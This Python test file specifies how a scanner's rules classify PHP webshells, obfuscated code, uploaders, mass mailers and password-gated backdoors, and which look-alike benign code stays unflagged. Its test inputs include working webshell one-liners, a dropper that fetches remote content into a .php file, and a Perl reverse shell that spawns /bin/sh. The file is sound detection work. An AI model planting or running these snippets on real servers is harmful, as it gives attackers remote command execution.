"""Behaviour of the PHP webshell rules, written as specifications.

Inline snippets are matched in memory with the externals of a file at
``/var/www/html/<name>`` (see the ``match_data`` fixture).
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rulekit import match_bytes

SOURCES = [
    "$_GET['c']",
    "$_POST['c']",
    "$_REQUEST['c']",
    "$_COOKIE['c']",
    "$_SERVER['HTTP_X_C']",
    "file_get_contents('php://input')",
    "getallheaders()['C']",
]
WRAPPERS = ["{}", "base64_decode({})", "stripslashes({})", "str_rot13({})", "@{}"]
COMMAND_FUNCTIONS = ["system", "exec", "passthru", "shell_exec", "popen", "proc_open"]


def families(matches, severity=None):
    return {ns for ns, _rule, meta in matches if severity is None or meta["severity"] == severity}


def rules_of(matches):
    return {rule for _ns, rule, _meta in matches}


def worst(matches, rank):
    return min((rank(meta["severity"]) for _, _, meta in matches), default=99)


def randomize_case(draw, word):
    flips = draw(st.lists(st.booleans(), min_size=len(word), max_size=len(word)))
    return "".join(c.upper() if f else c.lower() for c, f in zip(word, flips, strict=True))


# --- request input reaching code execution -----------------------------------


def test_eval_of_post_input_is_critical(match_data, rank):
    matches = match_data("<?php @eval($_POST['x']);?>")
    assert "php_code_exec" in families(matches, "critical")


@settings(max_examples=60, deadline=None)
@given(data=st.data())
def test_any_request_source_reaching_eval_or_assert_is_critical(match_data, rank, data):
    source = data.draw(st.sampled_from(SOURCES))
    wrapper = data.draw(st.sampled_from(WRAPPERS))
    sink = randomize_case(data.draw, data.draw(st.sampled_from(["eval", "assert"])))
    space = data.draw(st.sampled_from(["", " ", "\n    "]))
    code = f"<?php\n{sink}({space}{wrapper.format(source)}{space});\n"
    matches = match_data(code)
    assert "php_code_exec" in families(matches, "critical"), code


@settings(max_examples=60, deadline=None)
@given(data=st.data())
def test_any_request_source_reaching_a_command_function_is_critical(match_data, data):
    source = data.draw(st.sampled_from(SOURCES))
    func = randomize_case(data.draw, data.draw(st.sampled_from(COMMAND_FUNCTIONS)))
    prefix = data.draw(st.sampled_from(["", "'cd /tmp; ' . ", "@"]))
    code = f"<?php echo {func}({prefix}{source});"
    matches = match_data(code)
    assert "php_command_exec" in families(matches, "critical"), code


def test_request_parameter_called_as_function_is_critical(match_data):
    assert "php_code_exec" in families(match_data("<?php $_GET['f']($_GET['c']); ?>"), "critical")


def test_variable_function_called_with_request_input_is_critical(match_data):
    matches = match_data("<?php $f = 'as' . 'sert'; $f($_REQUEST['p']);")
    assert "php_code_exec" in families(matches, "critical")
    assert "php_obfuscation" in families(matches)


@pytest.mark.parametrize(
    "code",
    [
        "array_map($_GET['f'], array($_GET['a']));",
        "call_user_func($_POST['f'], $_POST['a']);",
        "call_user_func_array($_REQUEST['f'], array($_REQUEST['a']));",
        "register_shutdown_function($_COOKIE['f'], $_COOKIE['a']);",
        "register_tick_function($_GET['f'], $_GET['a']);",
        "ob_start($_GET['f']);",
        "usort($list, $_GET['cmp']);",
        "uasort($list, $_POST['cmp']);",
        "uksort($list, $_REQUEST['cmp']);",
        "array_walk($list, $_GET['f']);",
        "array_filter($list, $_POST['f']);",
        "iterator_apply($it, $_GET['f'], array($it));",
        "array_map('assert', array($_POST['c']));",
        "call_user_func('system', $_GET['c']);",
        "array_filter(array($_POST['c']), 'assert');",
        "set_error_handler($_GET['f']); trigger_error($_GET['a']);",
    ],
)
def test_callbacks_chosen_by_the_request_are_critical(match_data, code):
    assert "php_code_exec" in families(match_data("<?php " + code), "critical"), code


@pytest.mark.parametrize(
    "code",
    [
        "preg_replace('/.*/e', $_POST['c'], '');",
        "preg_replace(\"#x#ie\", $_GET['c'], 'x');",
        "create_function('', $_POST['body']);",
        "include 'data://text/plain;base64,' . $_GET['p'];",
        "include('php://input');",
        "require_once $_GET['page'];",
        "extract($_REQUEST); $a($b);",
        "mb_ereg_replace('.*', $_REQUEST['z'], '', 'e');",
    ],
)
def test_other_request_driven_code_execution_is_critical(match_data, code):
    assert "php_code_exec" in families(match_data("<?php " + code), "critical"), code


def test_function_names_are_matched_case_insensitively(match_data):
    for code in ("EVAL($_POST['x']);", "eVaL($_POST['x']);", "SyStEm($_GET['c']);"):
        assert families(match_data("<?php " + code), "critical"), code


# --- obfuscation ---------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["system", "assert", "base64_decode", "shell_exec", "passthru", "create_function", "_POST"],
)
def test_hex_and_octal_escaped_dangerous_names_are_high(match_data, name):
    hexed = "".join(f"\\x{ord(c):02x}" for c in name)
    octal = "".join(f"\\{ord(c):03o}" for c in name)
    for literal in (hexed, hexed.upper().replace("\\X", "\\x"), octal):
        matches = match_data(f'<?php $n = "{literal}";')
        assert "php_obfuscation" in families(matches, "high"), literal


@settings(max_examples=80, deadline=None)
@given(data=st.data())
def test_dangerous_names_split_into_string_fragments_are_flagged(match_data, data):
    name = data.draw(st.sampled_from(["assert", "system", "base64_decode", "shell_exec", "_POST"]))
    cut = data.draw(st.integers(min_value=1, max_value=len(name) - 1))
    quote = data.draw(st.sampled_from(["'", '"']))
    dot = data.draw(st.sampled_from([".", " . ", ". "]))
    code = f"<?php $n = {quote}{name[:cut]}{quote}{dot}{quote}{name[cut:]}{quote};"
    assert "php_obfuscation" in families(match_data(code), "high"), code


def test_eval_of_nested_decoders_is_critical(match_data):
    code = "<?php eval(gzinflate(base64_decode('S0ktLlFISSxJBAA=')));"
    assert "php_obfuscation" in families(match_data(code), "critical")


def test_goto_spaghetti_alone_is_only_low(match_data, rank):
    body = "\n".join(f"L{i}: $v{i} = {i}; goto L{i + 1};" for i in range(40))
    matches = match_data(f"<?php\ngoto L0;\n{body}\nL40: echo 1;\n")
    assert "php_obfuscation" in families(matches)
    assert worst(matches, rank) == rank("low")


def test_sparse_gotos_of_a_generated_parser_are_not_flagged(match_data):
    filler = "    $this->pos++; $r = $this->peek(); if ($r === null) { $r = false; }\n" * 3
    body = "".join(f"seq_{i % 3}:\n{filler}    goto seq_{(i + 1) % 3};\n" for i in range(60))
    assert match_data(f"<?php\nfunction parse() {{\n{body}}}\n") == []


# --- things that must stay quiet -----------------------------------------------


@pytest.mark.parametrize(
    "code",
    [
        "exec('convert ' . escapeshellarg(SRC) . ' out.png', $o);",
        "$pdo->exec('DELETE FROM t WHERE id = ' . (int) $_POST['id']);",
        "$this->$action($_POST);",
        "$obj->system($_GET['q']);",
        "assert(isset($_REQUEST['id']));",
        "assert($user instanceof User);",
        "// set up $_REQUEST ( $_GET + $_POST )",
        "// the handler ($_POST) is validated first; see $data ($_GET) below",
        "/* $_GET['page'] (optional) selects the tab */",
        "$ids = array_map('intval', $_POST['ids']);",
        "usort($rows, function ($a, $b) { return $a <=> $b; });",
        "call_user_func(array($this, 'handle'), $_REQUEST);",
        "echo preg_replace('/\\s+/', ' ', $_POST['t']);",
        "mail('admin@example.com', 'Contact', $_POST['message']);",
        "$hash = md5($_POST['email']); echo $hash;",
        "file_put_contents(__DIR__ . '/cache/' . md5($key), serialize($data));",
        "eval('?>' . $compiled);",
        "$json = base64_decode($_POST['payload']); $data = json_decode($json, true);",
    ],
)
def test_ordinary_uses_of_the_same_functions_are_not_flagged(match_data, code):
    assert match_data("<?php\n" + code + "\n") == [], code


def test_a_legitimate_contact_form_is_not_a_mailer(match_data):
    code = """<?php
$to = 'contact@example.com';
$body = strip_tags($_POST['message']);
foreach (array('name', 'email') as $k) { $body .= "\\n$k: " . strip_tags($_POST[$k]); }
mail($to, 'Website contact', $body, 'From: noreply@example.com');
"""
    assert match_data(code) == []


# --- uploaders, mailers, password gates ----------------------------------------


def test_uploader_keeping_the_client_file_name_is_high(match_data):
    code = "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"
    assert "php_uploader" in families(match_data(code), "high")


def test_dropper_saving_remote_content_as_php_is_high(match_data):
    code = "<?php file_put_contents('x.php', file_get_contents('http://203.0.113.9/a.txt'));"
    assert "php_uploader" in families(match_data(code), "high")


def test_mass_mailer_looping_over_posted_list_is_high(match_data):
    code = """<?php
foreach (explode("\\n", $_POST['list']) as $r) { mail($r, $_POST['s'], $_POST['b']); }
"""
    assert "php_mailer" in families(match_data(code), "high")


def test_md5_password_gate_in_front_of_eval_is_critical(match_data):
    code = """<?php
if (md5($_COOKIE['k']) === '5ebe2294ecd0e0f08eab7690d2a6ee69') { eval($_POST['c']); }
"""
    matches = match_data(code)
    assert "php_backdoor_login" in families(matches, "critical")


def test_single_file_database_admin_tool_is_only_medium(match_data, rank):
    drivers = (
        "mysqli_connect($h, $u, $p); pg_connect($c); new PDO($dsn); "
        "$q = 'SHOW DATABASES'; $t = 'SHOW TABLES'; $i = 'INFORMATION_SCHEMA';"
    )
    filler = "/* padding for a large single-file tool */\n" * 3000
    code = (
        f"<?php\n{drivers}\nif (isset($_POST['query'])) {{ $sql = $_POST['query']; }}\n"
        f"?>\n<form method='post'><textarea name='query'></textarea></form>\n<?php\n{filler}"
    )
    matches = match_data(code)
    assert "fim_php_filemanager_single_file_db_admin" in rules_of(matches)
    assert worst(matches, rank) == rank("medium")
    description = next(m["description"] for _, r, m in matches if r.endswith("db_admin"))
    assert "database administration tool" in description


# -- false-positive classes seen on real applications (issue 14) ---------------------------------

ATTACK_STRINGS = """[
            ['<?php eval($_POST["x"]); ?>'],
            ['<?php system($_GET["cmd"]); ?>'],
            ['<?php assert(base64_decode($_REQUEST["a"])); ?>'],
        ]"""


def _attack_string_test_case() -> str:
    return f"""<?php
namespace Vendor\\Firewall\\Tests;

use PHPUnit\\Framework\\TestCase;

class PayloadFilterTest extends TestCase
{{
    public static function payloads(): array
    {{
        return {ATTACK_STRINGS};
    }}

    /** @dataProvider payloads */
    public function testPayloadIsBlocked(string $payload): void
    {{
        $this->assertTrue((new \\Vendor\\Firewall\\Filter())->blocks($payload));
    }}
}}
"""


def test_security_plugin_unit_test_with_attack_strings_is_not_flagged(match_data):
    path = "/var/www/html/wp-content/plugins/firewall/tests/Unit/PayloadFilterTest.php"
    assert match_data(_attack_string_test_case(), path) == []


def test_attack_strings_outside_a_tests_folder_are_still_critical(match_data):
    # the test-case exemption needs the name, the folder and the class: a shell dropped in uploads
    # that only imitates a test class is still reported
    path = "/var/www/html/wp-content/uploads/PayloadFilterTest.php"
    assert "php_code_exec" in families(match_data(_attack_string_test_case(), path), "critical")


def test_php_grammar_inside_a_commonjs_bundle_is_not_flagged(match_data):
    code = (
        "module.exports = { php: \"<?php eval($_POST['x']); system($_GET['cmd']); "
        "assert(base64_decode($_REQUEST['a'])); ?>\" };\n"
    )
    assert match_data(code, "/var/www/html/node_modules/highlighter/lang/php.cjs") == []


def test_file_manager_connector_dispatching_cmd_to_a_method_is_not_flagged(match_data):
    code = """<?php
class Connector
{
    private $fm;
    public function run()
    {
        $cmd = isset($_GET['cmd']) ? $_GET['cmd'] : '';
        $args = $_GET;
        if (!in_array($cmd, array('open', 'ls', 'tree', 'upload', 'rm'), true)) {
            $cmd = 'open';
        }
        $this->output($this->fm->exec($cmd, $args));
    }
    public function exec($cmd, $args)
    {
        return call_user_func(array($this, 'cmd_' . $cmd), $args);
    }
}
"""
    assert match_data(code, "/var/www/html/vendor/filemanager/php/connector.php") == []


def test_archive_in_storage_holding_php_sources_is_not_a_polyglot(match_data):
    member = b"<?php eval($_POST['x']); system($_GET['c']); ?>"
    stored_zip = b"PK\x03\x04" + b"\x14\x00" * 10 + b"plugin/main.php" + member + b"PK\x05\x06" + b"\x00" * 18
    assert match_data(stored_zip, "/var/www/html/storage/app/backups/plugin.zip") == []


def test_php_payload_merely_named_like_an_archive_is_still_a_polyglot(match_data):
    code = "<?php eval($_POST['x']); ?>"
    assert "polyglot" in families(match_data(code, "/var/www/html/uploads/data.zip"))


def test_vendor_encoded_module_is_reported_only_as_low_encoded_code(match_data, rank):
    blob = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" * 12
    code = f"""<?php
/**
 * Licence module of a commercial theme.
 * @package ExampleTheme
 * Copyright (c) 2021 Example Vendor. All rights reserved.
 */
eval(base64_decode('{blob}'));
"""
    matches = match_data(code)
    assert rules_of(matches) == {"fim_php_obfuscation_encoded_code"}
    assert worst(matches, rank) == rank("low")


def test_same_encoded_eval_reading_the_request_is_not_downgraded(match_data, rank):
    blob = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" * 12
    code = f"""<?php
/** @package ExampleTheme */
if (isset($_GET['go'])) {{ eval(base64_decode('{blob}')); }}
"""
    matches = match_data(code)
    assert "fim_php_obfuscation_encoded_code" not in rules_of(matches)
    assert worst(matches, rank) <= rank("high")


def test_preg_replace_e_in_an_old_library_is_medium_never_critical(match_data, rank):
    body = "\n".join(f"function helper_{i}($s) {{ return trim($s) . '{i}'; }}" for i in range(120))
    code = f"""<?php
// an old BBCode library (PHP 4 era)
{body}
function bbcode($text) {{
    return preg_replace('/\\[b\\](.*?)\\[\\/b\\]/ie', "'<b>' . strtoupper('\\\\1') . '</b>'", $text);
}}
$page = isset($_GET['page']) ? (int) $_GET['page'] : 1;
"""
    matches = match_data(code)
    assert "fim_php_code_exec_preg_replace_eval_modifier" in rules_of(matches)
    assert worst(matches, rank) == rank("medium")


def test_changelog_quoting_php_is_not_flagged(match_data):
    text = (
        "Version 3.2\n- Blocked uploads such as <?php system($_GET['c']); ?> and "
        "<?php eval(base64_decode($_POST['p'])); ?> in the media library.\n"
    )
    for name in ("CHANGELOG.md", "changelog.txt", "readme.txt"):
        assert match_data(text, f"/var/www/html/wp-content/plugins/guard/{name}") == [], name


def test_developer_tool_phar_is_not_flagged(match_data):
    blob = "\\x65\\x76\\x61\\x6c" * 30
    code = (
        "#!/usr/bin/env php\n<?php\nPhar::mapPhar('tool.phar');\nrequire 'phar://tool.phar/bin/run';\n"
        f'__HALT_COMPILER(); ?>\n$c = eval(base64_decode($x)); "{blob}" {"QUJD" * 150}\n'
    )
    assert match_data(code, "/home/dev/bin/tool.phar") == []


# -- layers of the unpacking stage (externals layer / chain / has_code_view) ---------------------


def test_eval_of_request_inside_a_comment_is_left_to_the_comment_stripped_view(rules):
    stored = "<?php\n/* old example: eval($_POST['x']); */\necho 'hello';\n"
    stripped = "<?php\n\necho 'hello';\n"
    path = "/var/www/html/hello.php"
    assert "php_code_exec" in families(match_bytes(rules, stored.encode(), path))
    assert match_bytes(rules, stored.encode(), path, has_code_view=True) == []
    assert match_bytes(rules, stripped.encode(), path, layer=1, chain="strip-comments") == []


def test_eval_of_request_in_code_still_fires_on_the_comment_stripped_view(rules):
    code = "<?php\n// tool\neval($_POST['x']);\n"
    stripped = "<?php\n\neval($_POST['x']);\n"
    path = "/var/www/html/t.php"
    assert match_bytes(rules, code.encode(), path, has_code_view=True) == []
    view = match_bytes(rules, stripped.encode(), path, layer=1, chain="strip-comments")
    assert "php_code_exec" in families(view, "critical")


def test_vendor_header_is_not_lost_on_the_comment_stripped_view(rules, rank):
    blob = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" * 12
    stripped = f"<?php\n\neval(base64_decode('{blob}'));\n"
    view = match_bytes(rules, stripped.encode(), "/var/www/html/x.php", layer=1, chain="strip-comments")
    assert worst(view, rank) >= rank("medium")


def test_decoded_layer_is_matched_like_a_file(rules):
    inner = b"<?php system($_GET['c']); ?>"
    got = match_bytes(rules, inner, "/var/www/html/x.php", layer=2, chain="base64>gzinflate")
    assert "php_command_exec" in families(got, "critical")


def test_decoded_layer_that_starts_with_eval_of_a_packed_literal_is_matched(rules):
    layer = b"eval(gzinflate(base64_decode('" + b"QUJD" * 60 + b"')));"
    got = match_bytes(rules, layer, "/var/www/html/x.php", layer=3, chain="base64>gzinflate")
    assert "php_obfuscation" in families(got)


def test_decoded_perl_back_connect_is_critical_but_the_same_text_as_stored_is_left_to_cgi_rules(rules):
    perl = (
        b"#!/usr/bin/perl\nuse Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n"
        b"connect(S, sockaddr_in($ARGV[1], inet_aton($ARGV[0])));\nexec('/bin/sh -i');\n"
    )
    decoded = match_bytes(rules, perl, "/var/www/html/x.php", layer=1, chain="base64")
    assert "fim_php_command_exec_decoded_network_shell_script" in rules_of(decoded)
    stored = match_bytes(rules, perl, "/var/www/html/x.php")
    assert "fim_php_command_exec_decoded_network_shell_script" not in rules_of(stored)
